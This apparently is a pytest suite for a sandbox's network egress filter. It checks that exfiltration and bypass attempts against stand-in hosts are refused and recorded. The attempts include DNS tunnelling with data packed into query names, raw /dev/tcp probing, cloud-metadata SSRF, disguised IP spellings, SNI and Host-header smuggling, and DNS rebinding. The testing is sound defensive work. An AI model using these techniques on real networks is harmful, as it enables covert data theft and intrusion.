# SPDX-License-Identifier: Apache-2.0
"""Ways to get data out past the rules. Each is refused and the refusal recorded, and nothing of it arrives: the
witness is upstream's own log of requests, questions and packets."""
import collections
import subprocess

import pytest

import world as world_

UPSTREAM = world_.UPSTREAM

# Questions of any type, over either transport, to any server; prints the head of the answer or the error.
ASK = '''
import base64, os, socket, struct
server = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
def message(name, kind):
	return (os.urandom(2) + b'\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'
		+ b''.join(bytes([len(x)]) + x.encode() for x in name.split('.')) + b'\\0' + struct.pack('>HH', kind, 1))
def ask(name, kind=1, to=server, tcp=False):
	data = message(name, kind)
	try:
		with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
			sock.settimeout(5)
			sock.connect((to, 53))
			sock.send((struct.pack('>H', len(data)) if tcp else b'') + data)
			got = sock.recv(2048)[2 if tcp else 0:]
			return got[3] & 15 if got[:2] == data[:2] else 'another id'
	except OSError as error:
		return type(error).__name__
'''


def allow(world, *rules):
	options = [option for rule in rules for option in ('--allow', rule)]
	return ('--net', 'allow', *options, *world.net)


def asked(world):
	"""Names that arrived at the resolver."""
	return [entry['name'] for entry in world.log('dns')]


def hosts_seen(world):
	"""Host fields of requests that arrived."""
	return {entry['host'] for entry in world.log('http')}


def refused(run):
	return {(event.get('host'), event.get('address'), event.get('port'), event.get('protocol'))
		for event in run.record.events('net.refused')}


def arrived(world, *but):
	"""What reached any address outside, but for questions to the resolver."""
	return world.wire() - {(UPSTREAM, 'udp', 53), *but}


def test_witness_sees_what_leaves(world):
	"""Without a sandbox between: so that an empty log means something below."""
	world.clear()
	script = '''
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for to, port in (('203.0.113.9', 9), ('169.254.169.254', 80), ('192.0.2.1', 7)):
	sock.sendto(b'x', (to, port))
print(socket.create_connection(('203.0.113.10', 80), 5).getpeername()[0])
'''
	done = subprocess.run(world.command(world.host, '/usr/bin/python3', '-c', script), capture_output=True, timeout=20)
	assert done.stdout.decode() == UPSTREAM + '\n', done
	assert {('203.0.113.9', 'udp', 9), ('169.254.169.254', 'udp', 80), ('192.0.2.1', 'udp', 7),
		('203.0.113.10', 'tcp', 80)} <= world.wire()


def test_bare_addresses(online, world):
	"""An address is open only because it was given out for an allowed name, and then on the allowed ports."""
	run = online.bash('''
		for a in 203.0.113.9 203.0.113.10; do
			(exec 3<>/dev/tcp/$a/80) 2>/dev/null && echo "early $a"
		done
		U=$(getent ahostsv4 allowed.test | head -1 | cut -d' ' -f1); echo $U
		for a in 203.0.113.9 $U; do for p in 80 443 22 53 853 8080; do
			timeout 3 bash -c "exec 3<>/dev/tcp/$a/$p" 2>/dev/null && echo OPEN $a:$p
		done; done; true''', options=allow(world, 'allowed.test:80', 'allowed.test:443'))
	# Port 53 is the gateway's own, for questions, on every address.
	assert [line for line in run.lines if not line.endswith(':53')] == [
		UPSTREAM, f'OPEN {UPSTREAM}:80', f'OPEN {UPSTREAM}:443'], run
	assert arrived(world) == {(UPSTREAM, 'tcp', 80), (UPSTREAM, 'tcp', 443)}
	told = refused(run)
	for port in (80, 443, 22, 853, 8080):
		assert (None, '203.0.113.9', port, 'tcp') in told, (port, told)
	for port in (22, 853, 8080):
		assert ('allowed.test', UPSTREAM, port, 'tcp') in told, (port, told)
	assert (None, UPSTREAM, 80, 'tcp') in told, 'before its name was asked for'


@pytest.mark.parametrize('url', ['http://3405803785/', 'http://0xcb.0.0x71.9/', 'http://0313.0.0161.011/',
	'http://[::ffff:203.0.113.9]/', 'http://203.0.113.9/', 'http://[2001:db8::10]/', 'http://203.0.113.9.nip.test/'])
def test_spellings_of_an_address(online, world, url):
	run = online.run('curl', '-sS', '-g', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', url,
		options=allow(world, 'allowed.test'))
	assert run.out in ('000', '403'), run
	assert run.duration_s < 5
	assert arrived(world) == set()
	assert asked(world) == []
	told = refused(run)
	assert any('203.0.113.9' in (host or '') + (address or '') or address == '2001:db8::10'
		for host, address, _, _ in told), told


@pytest.mark.parametrize('host', ['203.0.113.9', '3405803785', '[::ffff:203.0.113.9]', '169.254.169.254'])
def test_address_as_host_field(online, world, host):
	"""An allowed connection, but the request is for an address."""
	run = online.run('curl', '-sS', '-g', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', '-H', f'Host: {host}',
		'http://allowed.test/', options=allow(world, 'allowed.test'))
	assert run.out == '403', run
	assert world.log('http') == []


def test_asking_is_sending(online, world):
	"""Data in a name that will never be allowed, asked of anyone."""
	run = online.py(ASK + '''
import subprocess
subprocess.run(['getent', 'ahostsv4', '726f6f743a783a30.leak.denied.test'], stdout=subprocess.DEVNULL)
for to in (server, '8.8.8.8', '1.1.1.1', '203.0.113.10'):
	print(ask('xfer.leak.denied.test', 16, to), ask('xfer.leak.denied.test', 1, to))''',
		options=allow(world, 'allowed.test'))
	# REFUSED for the text; an address that leads nowhere for the other (docs/security.md).
	assert set(run.lines) <= {'5 0', '5 5'}, run
	assert asked(world) == [] and world.wire() == set()
	told = [event for event in run.record.events('net.dns') if event['name'].endswith('.leak.denied.test')]
	assert {(event['name'], event['type']) for event in told} >= {
		('726f6f743a783a30.leak.denied.test', 'A'), ('xfer.leak.denied.test', 'TXT'), ('xfer.leak.denied.test', 'A')}
	assert all(event['refused'] and event['rule'] and event['reason'] and event['pid'] for event in told)
	assert {event['server'] for event in told} >= {'8.8.8.8', '1.1.1.1', '203.0.113.10'}
	assert ('xfer.leak.denied.test', None, None, 'udp') in refused(run)


def test_dns_types_and_transports(online, world):
	run = online.py(ASK + '''
for kind in (1, 28, 16, 5, 15, 10, 255, 65, 64, 252, 249, 65399):
	print(kind, ask('data.denied.test', kind), ask('data.allowed.test', kind))
print(ask('x.denied.test', tcp=True), ask('x.denied.test', to='8.8.8.8'), ask('a' * 63 + '.' + 'b' * 63 + '.denied.test'))
''', options=allow(world, '*.allowed.test'))
	codes = {int(kind): (denied, allowed) for kind, denied, allowed in (line.split() for line in run.lines[:-1])}
	for kind in (16, 5, 15, 10, 255, 65, 64, 252, 249, 65399):
		assert codes[kind][0] == '5', (kind, codes)
	for kind in (10, 255, 252, 249, 65399): # types that carry data and that no client needs
		assert codes[kind][1] == '5', (kind, codes)
	assert codes[1][1] == '0', codes
	assert not [name for name in asked(world) if 'denied' in name]
	assert {entry['type'] for entry in world.log('dns')} <= {1, 28, 16, 5, 15, 65, 64}
	events = run.record.events('net.dns')
	types = {event['type'] for event in events if event['name'] == 'data.denied.test'}
	assert types == {'A', 'AAAA', 'TXT', 'CNAME', 'MX', 'NULL', 'ANY', 'HTTPS', 'SVCB', 'AXFR', 'TKEY', 'TYPE65399'}
	assert any(event['protocol'] == 'tcp' and event['name'] == 'x.denied.test' for event in events)
	assert any(event['name'] == 'a' * 63 + '.' + 'b' * 63 + '.denied.test' for event in events)


def test_names_as_a_tunnel_below_an_allowed_one(online, world):
	run = online.py(ASK + '''
for i in range(200):
	print(ask(base64.b32encode(os.urandom(30)).decode().strip('=').lower() + '.wild.test', 16))''',
		options=allow(world, '*.wild.test'))
	codes = collections.Counter(run.lines)
	assert codes['5'] >= 100 and codes['5'] + codes['0'] == 200, codes
	assert len(asked(world)) == codes['0']
	events = run.record.events('net.dns')
	assert len(events) == 200, 'each is recorded'
	assert sum(event.get('refused', False) for event in events) == codes['5']
	hints = run.record.events('hint')
	assert [hint['count'] for hint in hints][-1] == 200, hints
	assert f"{codes['5']} of them were refused" in hints[-1]['reason']
	assert 'HINT' in run.err


def test_resolver_sees_only_the_question(online, world):
	"""No case, no options, no odd flags: what a message could carry besides its name."""
	run = online.py(ASK + '''
data = (b'\\xab\\xcd\\1\\x70\\0\\1\\0\\0\\0\\0\\0\\1\\7AlLoWeD\\4TeSt\\0\\0\\1\\0\\1'
	+ b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0c\\xff\\xfe\\0\\x08SECRETS!')
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(5)
sock.connect((server, 53))
sock.send(data)
got = sock.recv(2048)
print(got[:2] == data[:2], b'\\7AlLoWeD\\4TeSt\\0' in got, b'SECRETS' in got)''', options=allow(world, 'allowed.test'))
	assert run.out == 'True True False\n', run
	assert asked(world) == ['allowed.test']


def test_other_bytes_on_port_53(online, world):
	run = online.py('''
import socket
server = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
for data in (b'GET / HTTP/1.1\\r\\n\\r\\n', b'\\0\\1x', b'\\xff' * 300, b'\\0\\0' * 10):
	try:
		with socket.create_connection((server, 53), 5) as sock:
			sock.settimeout(3)
			sock.send(data)
			sock.shutdown(socket.SHUT_WR)
			print(len(sock.recv(50)) <= 50)
	except OSError as error:
		print(type(error).__name__)
	with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
		sock.sendto(data, (server, 53))
with socket.create_connection((server, 53), 5) as sock:
	print(socket.gethostbyname('allowed.test'))''', options=allow(world, 'allowed.test'))
	assert run.lines[-1] == UPSTREAM, run
	assert asked(world) == ['allowed.test']
	faults = [event for event in run.record.events('net.flow') if event['port'] == 53]
	assert len(faults) == 4 and all(event['failed'] and event['error'] for event in faults), faults


def test_names_over_a_stream(online, world):
	"""Three questions, one byte at a time; the end of ours does not cut off the answers."""
	run = online.py(ASK + '''
questions = [message(name, 1) for name in ('one.allowed.test', 'two.denied.test', 'three.allowed.test')]
with socket.create_connection((server, 53), 5) as sock:
	sock.settimeout(5)
	sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
	for byte in b''.join(struct.pack('>H', len(question)) + question for question in questions):
		sock.send(bytes([byte]))
	sock.shutdown(socket.SHUT_WR)
	got = b''
	while data := sock.recv(4096):
		got += data
for question in questions:
	n = int.from_bytes(got[:2], 'big')
	answer, got = got[2:2 + n], got[2 + n:]
	print(answer[:2] == question[:2], socket.inet_ntoa(answer[-4:]))
print(len(got))''', options=allow(world, '*.allowed.test'))
	assert run.lines == [f'True {UPSTREAM}', 'True 198.18.0.1', f'True {UPSTREAM}', '0'], run
	assert sorted(asked(world)) == ['one.allowed.test', 'three.allowed.test']
	assert run.record.json('net') and UPSTREAM not in {entry['address'] for entry in run.record.json('net')}


def test_answer_that_does_not_fit(online, world):
	"""Too long for a datagram on either side: asked for over a stream, and all of it is learned."""
	run = online.sh('getent ahostsv4 big.test | grep -c STREAM; curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" http://big.test/',
		options=allow(world, 'big.test'))
	assert run.lines == ['60', '200'], run
	assert {entry['tcp'] for entry in world.log('dns')} == {True, False}


def test_resolvers_that_are_of_little_use(online, world):
	"""One that knows no EDNS is asked without; one that fails is passed over."""
	run = online.sh('getent ahostsv4 old.test | head -1', options=allow(world, 'old.test'))
	assert run.out.split()[:1] == [UPSTREAM], run
	run = online.sh('getent ahostsv4 allowed.test | head -1',
		options=('--resolver', f'{UPSTREAM}:54', *allow(world, 'allowed.test')))
	assert run.out.split()[:1] == [UPSTREAM], run
	assert run.duration_s < 5 and (UPSTREAM, 'udp', 54) in world.wire()


def test_alias_chain(online, world):
	"""An alias opens what it leads to under its own name only."""
	run = online.sh('''
		getent ahostsv4 cname.test | head -1 | cut -d' ' -f1
		curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://cname.test/
		getent ahostsv4 pop7.cdn.test | head -1 | cut -d' ' -f1
		curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://pop7.cdn.test/
		curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' --resolve pop7.cdn.test:80:203.0.113.10 http://pop7.cdn.test/
		curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' --resolve pop7.cdn.test:443:203.0.113.10 https://pop7.cdn.test/
		curl -sS -m 5 -o /dev/null http://cname.test:18081/; echo $?''', options=allow(world, 'cname.test:80'))
	assert run.lines[:2] == [UPSTREAM, '200'], run
	assert run.lines[2].startswith('198.18.') and run.lines[3:5] == ['403', '403'], run
	assert run.lines[5] in ('000', '403') and run.lines[6] == '7', run
	assert hosts_seen(world) == {'cname.test'} and set(asked(world)) == {'cname.test'}
	assert arrived(world) == {(UPSTREAM, 'tcp', 80)}
	answers = [event for event in run.record.events('net.dns') if event['name'] == 'cname.test' and event['type'] == 'A']
	assert answers[0]['answers'] == ['CNAME edge.cdn.test', 'CNAME pop7.cdn.test', UPSTREAM]
	entries = run.record.json('net')
	assert [entry['host'] for entry in entries if not entry['refused']] == ['cname.test']
	assert 'pop7.cdn.test' in {entry['host'] for entry in entries if entry['refused']}


FLOWS = '''
import errno, os, select, socket, struct
def connect(host, port, limit=3):
	sock = socket.socket()
	sock.setblocking(False)
	result = sock.connect_ex((host, port))
	writable = select.select([], [sock], [], limit)[1]
	print(host, port, errno.errorcode.get(result, result), bool(writable),
		errno.errorcode.get(sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), 0))
	sock.close()
address = socket.gethostbyname('allowed.test')
connect(address, 80)
connect(address, 81)
connect('192.0.2.1', 80)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in (53, 9999):
	sock.sendto(b'q' * 50, (address, port))
connected = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
connected.connect((address, 9998))
connected.send(b'z' * 10)
request = b'GET /bytes/50000 HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'
stream = socket.create_connection((address, 80))
stream.sendall(request)
n = 0
while data := stream.recv(9999):
	n += len(data)
print(len(request), n)
'''


def test_outcome_of_flows(online, world):
	run = online.py(FLOWS, options=('--net', 'open', *world.net))
	assert run.lines[0].split()[3:] == ['True', '0'], run
	assert run.lines[1].split()[3:] == ['True', 'ECONNREFUSED'], run
	assert run.lines[2].split()[2:] == ['EINPROGRESS', 'False', '0'], run
	sent, got = map(int, run.lines[3].split())
	connects = {(event['address'], event['port'], event['protocol']): event for event in run.record.events('net.connect')}
	assert 'result' not in connects[UPSTREAM, 80, 'tcp']
	assert connects[UPSTREAM, 81, 'tcp']['result'] == 'ECONNREFUSED'
	assert connects['192.0.2.1', 80, 'tcp']['result'] == 'ECANCELED', 'it was under way when the sandbox ended'
	entries = {(entry['address'], entry['port'], entry['protocol']): entry for entry in run.record.json('net')}
	assert entries[UPSTREAM, 80, 'tcp']['failed'] is False
	assert entries[UPSTREAM, 81, 'tcp']['failed'] is True
	assert entries['192.0.2.1', 80, 'tcp']['failed'] is True
	assert (entries[UPSTREAM, 80, 'tcp']['bytes_out'], entries[UPSTREAM, 80, 'tcp']['bytes_in']) == (sent, got)
	assert entries[UPSTREAM, 9999, 'udp']['bytes_out'] == 50
	assert entries[UPSTREAM, 9998, 'udp']['bytes_out'] == 10
	assert {(UPSTREAM, 'udp', 9999), (UPSTREAM, 'udp', 9998)} <= world.wire()
	assert asked(world) == ['allowed.test'], 'what is no question was not passed on'


HELLO = '''
import socket, ssl, time
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
def hello(name):
	into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
	try:
		context.wrap_bio(into, out, server_hostname=name).do_handshake()
	except ssl.SSLWantReadError:
		return out.read()
def record(body):
	return b'\\x16\\x03\\x01' + len(body).to_bytes(2, 'big') + body
def say(what, chunks, pause=.002):
	sock = socket.create_connection(('allowed.test', 443))
	sock.settimeout(8)
	sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
	try:
		for chunk in chunks:
			sock.sendall(chunk)
			time.sleep(pause)
		print(what, 'hello' if sock.recv(100)[:1] == b'\\x16' else 'refused')
	except OSError as error:
		print(what, 'refused')
def one_byte_each(data):
	return [bytes([byte]) for byte in data]
'''


@pytest.mark.parametrize('mode', ['intercept', 'passthrough'])
def test_names_inside_tls(online, world, mode):
	run = online.py(HELLO + '''
bad, good = hello('denied.test'), hello('allowed.test')
say('whole', [bad])
say('records', [record(bad[5:25]), record(bad[25:65]), record(bad[65:])])
say('bytes', one_byte_each(bad))
say('slow bytes', one_byte_each(bad), .02)
say('late', [bad[:40], bad[40:]], 2)
say('junk', [b'\\x16\\x03\\x01\\x00\\x00', bad])
say('junk before good', [b'\\x16\\x03\\x01\\x00\\x00', good])
two = good.replace(b'\\x00\\x11\\x00\\x0f\\x00\\x00\\x0callowed.test', b'\\x00\\x11\\x00\\x0f\\x00\\x00\\x03a.b\\x00\\x00\\x06c.test')
assert two != good
say('two names', [two])
say('SSH', [b'SSH-2.0-x\\r\\n'])
say('good', [good])
say('good records', [record(good[5:25]), record(good[25:65]), record(good[65:])])
say('good bytes', one_byte_each(good))
''', options=(*allow(world, 'allowed.test'), '--tls', mode))
	said = dict(line.rsplit(' ', 1) for line in run.lines)
	assert {what for what, end in said.items() if end == 'hello'} == {'good', 'good records', 'good bytes'}, run
	assert len(said) == 12
	assert not [entry for entry in world.log('tlsfail') + world.log('http') if entry.get('sni') not in (None, 'allowed.test')]
	told = [event for event in run.record.events('net.refused') if event['stage'] == 'tls']
	assert sum(event.get('host') == 'denied.test' for event in told) >= 4, told
	assert len(told) >= 7, told


def test_second_host_on_one_connection(online, world):
	run = online.py(HELLO + '''
sock = context.wrap_socket(socket.create_connection(('allowed.test', 443)), server_hostname='allowed.test')
for host in (b'allowed.test', b'denied.test'):
	sock.sendall(b'GET /h HTTP/1.1\\r\\nHost: ' + host + b'\\r\\n\\r\\n')
	time.sleep(.5)
	print(sock.recv(9999)[:12].decode())''', options=allow(world, 'allowed.test'))
	assert run.lines == ['HTTP/1.1 200', 'HTTP/1.1 403'], run
	assert hosts_seen(world) == {'allowed.test'}
	assert any(event['stage'] == 'http' and event['host'] == 'denied.test' for event in run.record.events('net.refused'))


HEAD = b' HTTP/1.1\r\nHost: denied.test\r\n\r\n'
FRONT = b' HTTP/1.1\r\nHost: allowed.test\r\n\r\n'
REQUESTS = {
	'plain': [b'GET /x' + HEAD],
	'empty line first': [b'\r\nGET /x' + HEAD],
	'lower case': [b'get /x' + HEAD],
	'two blanks': [b'GET  /x' + HEAD],
	'tab': [b'GET\t/x' + HEAD],
	'made up': [b'Zz9 /x' + HEAD],
	'other scheme': [b'GET ftp://denied.test/' + FRONT],
	'absolute': [b'GET http://denied.test/' + FRONT],
	'tunnel': [b'CONNECT denied.test:80' + FRONT],
	'slow': [b'G', b'ET /x' + HEAD],
	'blank first': [b' GET /x' + HEAD],
	'blanks of other kinds': [b'\x0bGET\x0c\x1c/x' + HEAD],
	'carriage return': [b'GET\r/x' + HEAD],
	'no slash': [b'GET x' + HEAD],
	'a query alone, slowly': [b'GET ?x', HEAD],
	'no word': [b'!1 /x' + HEAD],
	'a mark first': [b'\xef\xbb\xbfGET /x' + HEAD],
	'long and no slash': [b'GET ' + b'x' * 5000, HEAD],
	'a load balancer before it': [b'PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\nGET /x' + HEAD],
}


@pytest.mark.parametrize('how', REQUESTS)
def test_request_for_another_host(online, world, how):
	"""To an allowed one's address, in ways that some server or other takes for a request."""
	run = online.py('''
import socket, sys, time
sock = socket.create_connection(('allowed.test', 80))
sock.settimeout(5)
for i, chunk in enumerate(sys.argv[1:]):
	time.sleep(6 if i else 0)
	sock.sendall(bytes.fromhex(chunk))
print(sock.recv(12).decode())''', *(chunk.hex() for chunk in REQUESTS[how]), options=allow(world, 'allowed.test'))
	assert run.lines and run.lines[0] in ('HTTP/1.1 400', 'HTTP/1.1 403'), run
	assert world.log('http') == []


@pytest.mark.parametrize('first', [b' ', b'\r\n' * 2100, b'PROXY UNKNOWN\r\n'], ids=['blank', 'lines', 'preamble'])
def test_request_for_another_host_inside_tls(online, world, first):
	"""Where nothing was agreed on that says what is spoken."""
	run = online.py(HELLO + '''
import sys
sock = context.wrap_socket(socket.create_connection(('allowed.test', 443)), server_hostname='allowed.test')
sock.settimeout(5)
sock.sendall(bytes.fromhex(sys.argv[1]))
print(sock.recv(12).decode())''', (first + b'GET /x' + HEAD).hex(), options=allow(world, 'allowed.test'))
	assert run.lines and run.lines[0] in ('HTTP/1.1 400', 'HTTP/1.1 403'), run
	assert world.log('http') == []


LISTENERS = '''
import socket, struct
def listeners(name):
	for line in open('/proc/net/' + name).read().splitlines()[1:]:
		local, _, state = line.split()[1:4]
		words, port = local.split(':')
		if state == '0A':
			yield b''.join(struct.pack('<I', int(words[i:i + 8], 16)) for i in range(0, len(words), 8)), int(port, 16)
def dial(address, port):
	with socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET) as sock:
		sock.settimeout(3)
		try:
			sock.connect((address, port))
			sock.send(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')
			print(address, port, sock.recv(20))
		except OSError as error:
			print(address, port, type(error).__name__)
socket.gethostbyname('allowed.test')
found = [(4, one) for one in listeners('tcp')] + [(6, one) for one in listeners('tcp6')]
for family, (raw, port) in found:
	own = socket.inet_ntop(socket.AF_INET if family == 4 else socket.AF_INET6, raw)
	for address in (own, '127.0.0.1', '10.0.0.2', '::1', 'fd00::2', '::ffff:127.0.0.1'):
		dial(address, port)
for address in ('198.18.77.7', '198.18.0.0', '198.19.255.255', 'fd00:c1::5', 'fd00:c1:1::1'):
	for port in (22, 80, 443):
		dial(address, port)
'''


def test_what_listens_inside(online, world):
	"""The gateway's sockets are inside, too: whoever dials them, or an address that stands for nothing, is refused."""
	run = online.py(LISTENERS, options=allow(world, 'allowed.test:80'))
	assert len(run.lines) >= 27 and {line.split()[2] for line in run.lines} <= {
		'ConnectionRefusedError', 'ConnectionResetError', 'OSError'}, run
	assert arrived(world) == set()
	told = {(address, port) for _, address, port, _ in refused(run)}
	assert told >= {(address, port) for address in ('198.18.77.7', 'fd00:c1::5') for port in (22, 80, 443)}


@pytest.mark.parametrize('mode', ['intercept', 'passthrough'])
def test_session_resumed_under_another_name(online, world, mode):
	run = online.py(HELLO + '''
context.maximum_version = ssl.TLSVersion.TLSv1_2
def visit(name, session):
	with context.wrap_socket(socket.create_connection(('allowed.test', 443)), server_hostname=name, session=session) as sock:
		sock.sendall(b'GET /h HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')
		print(sock.recv(9999)[:12].decode())
		return sock.session
session = visit('allowed.test', None)
for name in ('allowed.test', 'denied.test'):
	try:
		visit(name, session)
	except OSError as error:
		print('refused')
''', options=(*allow(world, 'allowed.test'), '--tls', mode))
	assert run.lines == ['HTTP/1.1 200', 'HTTP/1.1 200', 'refused'], run
	assert 'denied.test' not in {entry['sni'] for entry in world.log('http') + world.log('tlsfail')}


def test_through_a_friend(online, world):
	"""An allowed host that would lead on: an upgrade to anything, and a redirect, which is a request of its own."""
	run = online.sh('''
		curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' -H 'Upgrade: tcp-tunnel' -H 'Connection: Upgrade' http://allowed.test/
		curl -sSL -m 5 -o /dev/null -w '%{http_code} %{url_effective}\\n' 'http://allowed.test/redirect?http://denied.test/'
		''', options=allow(world, 'allowed.test'))
	assert run.lines == ['403', '403 http://denied.test/'], run
	assert [entry['path'] for entry in world.log('http')] == ['/redirect?http://denied.test/']
	assert hosts_seen(world) == {'allowed.test'}


INWARD = ['169.254.169.254', '169.254.170.2', '100.100.100.200', '0.0.0.0', '10.0.0.5', '203.0.113.1',
	'[fd00:ec2::254]', '[::ffff:169.254.169.254]', '[::ffff:10.0.0.5]', '[64:ff9b::a9fe:a9fe]', '[2002:a00:5::1]']


@pytest.mark.parametrize('mode', ['open', 'allow'])
def test_inward_addresses(online, world, mode):
	run = online.sh('for t in "$@"; do for p in 80 8080; do '
		'curl -sS -g -m 3 -o /dev/null -w "%{http_code}\\n" http://$t:$p/latest/meta-data/ 2>/dev/null; done; done; true',
		*INWARD, options=('--net', mode, '--allow', 'allowed.test', *world.net))
	assert set(run.lines) <= {'000', '403'}, run
	assert run.duration_s < len(INWARD) * 2, 'refused at once'
	assert arrived(world) == set()
	told = {address for _, address, _, _ in refused(run)}
	assert {'169.254.169.254', '169.254.170.2', '100.100.100.200', '10.0.0.5', '203.0.113.1', 'fd00:ec2::254'} <= told


@pytest.fixture
def new_addresses(world):
	"""Addresses that the host gets while a sandbox lives (add), and what listens at all of its addresses on port 8099."""
	added = []

	def add(*addresses, to='lo'):
		for address in addresses:
			world.ip(world.host, f'addr add {address} dev {to} nodad')
			added.append((address, to))

	server = subprocess.Popen(world.command(world.host, '/usr/bin/python3', '-c', LISTENER), stdout=subprocess.PIPE)
	assert server.stdout.readline() == b'ready\n'
	yield add
	server.kill()
	server.wait()
	for address, to in added:
		world.ip(world.host, f'addr del {address} dev {to}')


LISTENER = '''
import socket, threading
def answer(sock):
	while True:
		data, peer = sock.recvfrom(99)
		sock.sendto(b'reached', peer)
streams = []
for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
	stream, datagram = socket.socket(family, socket.SOCK_STREAM), socket.socket(family, socket.SOCK_DGRAM)
	for sock in (stream, datagram):
		if family == socket.AF_INET6:
			sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
		sock.bind((address, 8099))
	stream.listen()
	streams.append(stream)
	threading.Thread(target=answer, args=(datagram,)).start()
print('ready', flush=True)
'''

KNOCK = '''
import socket, sys
for address in sys.argv[1:]:
	for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
		sock = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind)
		sock.settimeout(5)
		try:
			sock.connect((address, 8099))
			if kind == socket.SOCK_DGRAM:
				sock.send(b'x')
				sock.recv(99)
			print(address, 'reached')
		except OSError as error:
			print(address, type(error).__name__)
'''


def test_addresses_that_the_host_got_later(online, world, new_addresses):
	"""Hosts move between networks, and IPv6 gives a new address each day: what listens there is the host's all the same."""
	box = online.create('--trace', '--net', 'open', *world.net)
	try:
		assert box.sh('curl -sS -o /dev/null -w "%{http_code}" http://allowed.test/').out == '200', 'the gateway runs'
		new_addresses('203.0.113.66/32', '2001:db8::66/128')
		# Not the first of its network: what the host sends there is sent from another address.
		new_addresses('203.0.113.77/24', '2001:db8::77/64', to='out0')
		addresses = ('203.0.113.66', '2001:db8::66', '203.0.113.77', '2001:db8::77', world_.HERE)
		run = box.py(KNOCK, *addresses)
		assert [line.split()[1] for line in run.lines] == ['ConnectionRefusedError'] * 10, run
		told = {(event['address'], event['protocol'], event['rule']) for event in run.record.events('net.refused')}
		assert told == {(address, protocol, 'default: an address of the host itself')
			for address in addresses for protocol in ('tcp', 'udp')}
	finally:
		box.remove()


@pytest.mark.parametrize('name, to', [('meta.test', '169.254.169.254'), ('priv.test', '10.0.0.5')])
def test_names_that_lead_inward(online, world, name, to):
	run = online.sh('curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" http://$1/', name,
		options=allow(world, name))
	assert run.lines[-1] in ('000', '403'), run
	assert arrived(world) == set()
	assert (name, to, 80, 'tcp') in refused(run)


def test_rebinding(online, world):
	"""The second answer leads inward: to the sandbox's own loopback, where nothing of the host is."""
	run = online.sh('for i in 1 2 3 4; do curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" http://rebind.test/; done; true',
		options=('--net', 'open', *world.net))
	assert set(run.lines) == {'200', '000'}, run
	assert arrived(world) == {(UPSTREAM, 'tcp', 80)}


@pytest.mark.parametrize('name', ['metadata.google.internal', 'host.docker.internal', 'localhost.allowed.test'])
def test_names_of_the_inside(online, world, name):
	run = online.sh('curl -sS -m 5 -o /dev/null -w "%{http_code}\\n" http://$1/', name,
		options=allow(world, 'allowed.test'))
	assert run.lines[-1] in ('000', '403'), run
	assert arrived(world) == set() and asked(world) == []
	assert name in {host for host, _, _, _ in refused(run)}
